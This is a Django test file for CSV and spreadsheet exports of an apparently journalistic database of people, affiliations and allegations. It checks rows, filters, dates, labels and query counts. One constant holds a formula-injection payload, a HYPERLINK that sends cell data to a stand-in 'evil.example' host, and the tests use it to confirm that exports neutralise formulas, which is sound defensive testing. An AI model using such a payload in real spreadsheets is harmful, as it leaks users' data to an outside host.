"""Lists as files: all rows of what was asked, no formula that runs, no allegation without its mark."""

import csv
import dataclasses
import io

import openpyxl
import pytest
from django.db import connections
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from config.stores import PUBLISHED, use_store
from evidence import downloads
from evidence.views import RecordList
from newsroom.publishing import plan, publish
from people.models import Affiliation, Move, Person
from tests import builders
from website.tests.pages import list_names, read, views

NASTY = '=HYPERLINK("http://evil.example?x="&A1,"Click")'
OTHERS = ["+1+1", "-2+3", "@SUM(A1)", "＝1+1"]


def rows_of(address, client=None):
    """A file of CSV as dictionaries."""
    answer = (client or Client()).get(address)
    assert answer.status_code == 200, answer.content.decode()
    return list(csv.DictReader(io.StringIO(answer.getvalue().decode())))


def book_of(address):
    answer = Client().get(address)
    assert answer.status_code == 200
    return openpyxl.load_workbook(io.BytesIO(answer.getvalue()))


@pytest.mark.parametrize("name", list_names())
def test_every_list_is_offered_as_files_with_the_rows_that_it_has(case, name):
    address = reverse(name)
    with use_store(PUBLISHED):
        model = views(RecordList)[name].filterset_class._meta.model
        total = Client().get(address).context_data["total"]
        ids = {str(pk) for pk in model.objects.values_list("pk", flat=True)}
    rows = rows_of(f"{address}?format=csv")
    assert len(rows) == total and {row["id"] for row in rows} <= ids
    assert all(
        Client().get(row["page"].removeprefix("http://testserver")).status_code == 200 for row in rows[:2]
    )
    page = read(Client(), address)
    (api,) = [
        link
        for link in page.links
        if link.startswith("/api/v1/") and "docs" not in link and link != "/api/v1/"
    ]
    assert Client().get(api).status_code == 200
    for code in downloads.FORMATS:
        assert f"?format={code}" in page.links
    sheet, about = book_of(f"{address}?format=xlsx").worksheets
    assert sheet.max_row == total + 1
    assert [cell.value for cell in sheet[1]] == list(rows[0])
    assert about.title == "About"


def test_filters_and_order_are_kept_and_all_pages_are_in_it(case):
    query = "on=2018&standing=stated&ordering=-start"
    page = read(Client(), f"/affiliations/?{query}")
    (link,) = [each for each in page.links if each.endswith("format=csv")]
    rows = rows_of(f"/affiliations/{link}")
    assert len(rows) == Client().get(f"/affiliations/?{query}").context_data["total"] > 50
    assert {(row["on"], row["standing"]) for row in rows} == {("2018", "stated")}
    assert {row["held"] for row in rows} == {"covered", "possible"}
    starts = [row["start_earliest"] for row in rows if row["start_earliest"]]
    assert starts == sorted(starts, reverse=True)
    (api,) = [each for each in page.links if each.startswith("/api/v1/affiliations/?")]
    assert api == "/api/v1/affiliations/?on=2018&standing=stated"
    assert "held" not in rows_of("/affiliations/?format=csv")[0]


def test_people_of_a_day_say_how_far_the_dates_carry_it_in_any_order(case):
    for order in ("", "&ordering=-name"):
        held = [row["held"] for row in rows_of(f"/people/?on=2018{order}&format=csv")]
        assert set(held) == {"covered", "possible"}
        assert (held == sorted(held)) is (not order)


def test_dates_are_as_written_with_the_days_that_they_may_mean(committed):
    post = builders.affiliation(start="2018-04", end="[2020..]")
    publish(plan([post]), by=builders.editor())
    (row,) = rows_of("/affiliations/?format=csv")
    assert (row["start"], row["start_earliest"], row["start_latest"]) == (
        "2018-04",
        "2018-04-01",
        "2018-04-30",
    )
    assert (row["end"], row["end_earliest"], row["end_latest"]) == ("[2020..]", "2020-01-01", "")
    assert (row["possible_from"], row["possible_until"], row["covered_from"]) == (
        "2018-04-01",
        "",
        "2018-04-30",
    )


def test_what_is_attested_stands_beside_a_start_and_an_end_that_are_not_known(committed):
    post, untold = builders.affiliation(cited=False), builders.affiliation(person=builders.person("Undated"))
    for attested in ("2022-03", "2018-04-24", "[2019..2020]"):
        builders.cite(post, attested=attested)
    # What contradicts a fact attests nothing.
    builders.cite(post, attested="2024", relation="contradicts")
    publish(plan([post, untold]), by=builders.editor())
    rows = {row["id"]: row for row in rows_of("/affiliations/?format=csv")}
    row, empty = rows[str(post.pk)], rows[str(untold.pk)]
    assert (row["start"], row["end"]) == ("", "")
    first, last = (
        [row[f"attested_{which}{part}"] for part in ("", "_earliest", "_latest")]
        for which in ("first", "last")
    )
    assert first == ["2018-04-24"] * 3 and last == ["2022-03", "2022-03-01", "2022-03-31"]
    assert not any(value for name, value in empty.items() if name.startswith("attested_"))


def test_what_a_file_says_is_attested_is_what_the_database_derives(case):
    with use_store(PUBLISHED):
        posts = {str(post.pk): post for post in Affiliation.objects.all()}
    rows = rows_of("/affiliations/?format=csv")
    undated = [row for row in rows if not any(row[name] for name in ("start", "end"))]
    assert any(row["attested_first"] for row in undated)
    for row in rows:
        post = posts[row["id"]]
        if post.unsure_first or post.unsure_last:
            continue
        assert row["attested_first_latest"] == str(post.attested_first or ""), row["sentence"]
        assert row["attested_last_earliest"] == str(post.attested_last or ""), row["sentence"]


def test_a_move_says_who_says_so_from_which_sources_and_of_how_many_people(case):
    with use_store(PUBLISHED):
        moves = {str(move.pk): move for move in Move.objects.counted().preload()}
    rows = rows_of(f"{reverse('moves')}?format=csv")
    assert rows
    for row in rows:
        move = moves[row["id"]]
        cited = [each for post in (move.first, move.second) for each in post.citations.all()]
        assert row["said_by"] and int(row["sources_count"]) >= len({each.source_id for each in cited})
        assert all(each.source.url in row["source_urls"] for each in cited)
        assert all(str(each.source) in row["sources"] for each in cited)
        for name, post in (("from", move.first), ("to", move.second)):
            assert row[f"{name}_headcount_low"] == str(post.headcount_low or "")
            assert row[f"{name}_headcount_high"] == str(post.headcount_high or "")
    assert any(row["from_headcount_low"] or row["to_headcount_low"] for row in rows)


def test_an_allegation_says_so_in_every_row_and_is_never_called_certain(case):
    seen = 0
    for name in ("affiliations", "agreements", "claims", "events", "measures", "stances", "moves"):
        for row in rows_of(f"{reverse(name)}?format=csv"):
            if row["standing"] not in ("stated", "as_said"):
                seen += 1
                assert row["sentence"]
                assert "certain" not in {value for key, value in row.items() if key != "sentence"}, row
    assert seen
    claims = rows_of("/claims/?format=csv")
    assert "stated" not in {row["standing"] for row in claims}


def test_no_cell_is_a_formula_in_any_file(committed):
    people = [builders.person(name) for name in (NASTY, *OTHERS)]
    publish(plan([builders.affiliation(person=person) for person in people]), by=builders.editor())
    assert {row["person"] for row in rows_of("/affiliations/?format=csv")} == {
        f"'{name}" for name in (NASTY, *OTHERS)
    }
    excel = Client().get("/people/?format=csv-excel").getvalue()
    assert excel.startswith(b"\xef\xbb\xbfid;page;")
    found = list(csv.reader(io.StringIO(excel.decode("utf-8-sig")), delimiter=";"))
    assert f"'{NASTY}" in {cell for row in found for cell in row}
    assert not [cell for row in found for cell in row if cell.startswith(downloads.FORMULA)]
    cells = [cell for row in book_of("/people/?format=xlsx").worksheets[0] for cell in row]
    assert NASTY in {cell.value for cell in cells}
    assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}


def test_the_reader_of_the_test_finds_a_formula_where_there_is_one():
    held = io.BytesIO()
    with downloads.xlsxwriter.Workbook(held) as book:
        book.add_worksheet().write(0, 0, NASTY)
    assert openpyxl.load_workbook(held).active["A1"].data_type == "f"


def test_a_birth_is_told_as_exactly_as_it_is_known(committed):
    person = builders.person("A Banker", born="1980")
    builders.cite(person, aspects=["birth"])
    publish(plan([person, builders.affiliation(person=person)]), by=builders.editor())
    (row,) = rows_of("/people/?format=csv")
    assert (row["born"], row["born_earliest"], row["born_latest"]) == ("1980", "1980-01-01", "1980-12-31")


@pytest.mark.parametrize(
    ("query", "words"),
    [
        ("format=pdf", "“pdf” is not one of: csv, csv-excel, xlsx."),
        ("format=csv&format=csv", "This is given more than once"),
        ("format=csv&page=2", "A file has all rows of the list"),
        ("format=csv&nonsense=1", "There is no parameter “nonsense” here."),
        ("format=csv&on=2018-13-01", "on"),
        ("format=%00", "is not one of"),
    ],
)
def test_what_cannot_be_answered_is_refused_in_a_sentence(case, query, words):
    assert words in read(Client(), f"/people/?{query}", status=400).words


def test_a_list_that_is_too_long_says_so_and_what_to_do(case, monkeypatch):
    for code, kind in downloads.FORMATS.items():
        monkeypatch.setitem(downloads.FORMATS, code, dataclasses.replace(kind, most=3))
    page = read(Client(), "/people/")
    assert "CSV: 3 rows at most" in page.words and "?format=csv" not in page.links
    words = read(Client(), "/people/?format=csv", status=400).words
    assert "at most 3 rows, and this list has more. Narrow it by filters" in words


def test_head_answers_as_get_does_without_the_file(case):
    for code in downloads.FORMATS:
        got, head = (getattr(Client(), verb)(f"/people/?format={code}") for verb in ("get", "head"))
        assert head.status_code == got.status_code == 200
        assert not head.getvalue()
        for name in ("Content-Type", "Content-Disposition", "Link", "Cache-Control"):
            assert head[name] == got[name]
        assert got["Content-Disposition"].startswith('attachment; filename="draaideur-people-2')


def test_a_workbook_is_the_same_bytes_for_the_same_rows_and_says_what_it_is(case):
    address = "/affiliations/?standing=stated&on=2018&format=xlsx"
    assert Client().get(address).getvalue() == Client().get(address).getvalue()
    told = {row[0].value: row[1].value for row in book_of(address).worksheets[1]}
    assert told["Licence"].startswith("CC BY 4.0")
    assert told["This file"] == f"http://testserver{address}"
    assert told["The same in the API"].endswith("/api/v1/affiliations/?standing=stated&on=2018")
    assert "Says nothing about truth" in told["Held"]


@pytest.mark.parametrize("name", ["affiliations", "people", "organizations", "moves", "claims"])
def test_a_file_takes_as_many_queries_for_any_number_of_rows_in_a_chunk(case, monkeypatch, name):
    def queries(query):
        with CaptureQueriesContext(connections["published"]) as captured:
            Client().get(f"{reverse(name)}?format=csv{query}").getvalue()
        return len(captured)

    few = queries("&q=awdc") if name != "organizations" else queries("&q=alrosa")
    assert few <= queries("") <= 25
    monkeypatch.setattr(downloads, "CHUNK", 10)
    # The control: what is asked for each row or chunk shows.
    assert queries("") > 25 or name in ("organizations", "moves", "people")


def test_a_file_speaks_the_language_of_its_address_to_its_last_row(case):
    rows = rows_of("/nl/affiliations/?format=csv")
    assert all(row["page"].startswith("http://testserver/nl/") for row in rows)
    assert list(rows[0]) == list(rows_of("/affiliations/?format=csv")[0])
    assert rows[-1]["sentence"] != next(
        row["sentence"] for row in rows_of("/affiliations/?format=csv") if row["id"] == rows[-1]["id"]
    )


def test_the_store_of_a_file_is_the_published_one_to_its_last_row(committed, monkeypatch):
    """A stream is read when the request is over: a draft must not come in then."""
    publish(plan([builders.affiliation(person=builders.person("Public"))]), by=builders.editor())
    Person.objects.filter(name="Public").update(name="Draft name")
    answer = Client().get("/affiliations/?format=csv")
    body = answer.getvalue()
    assert b"Public" in body and b"Draft name" not in body
